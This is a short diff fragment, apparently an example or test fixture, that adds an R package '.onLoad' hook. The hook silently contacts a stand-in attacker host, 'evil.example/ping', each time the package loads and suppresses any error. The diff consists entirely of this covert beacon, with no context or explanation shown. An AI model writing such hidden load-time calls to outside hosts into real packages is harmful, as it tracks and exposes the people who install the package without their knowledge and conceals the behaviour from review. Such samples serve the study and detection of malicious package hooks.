@@ -1,0 +1,3 @@
+.onLoad <- function(libname, pkgname) {
+  try(readLines("https://evil.example/ping"), silent = TRUE)
+}
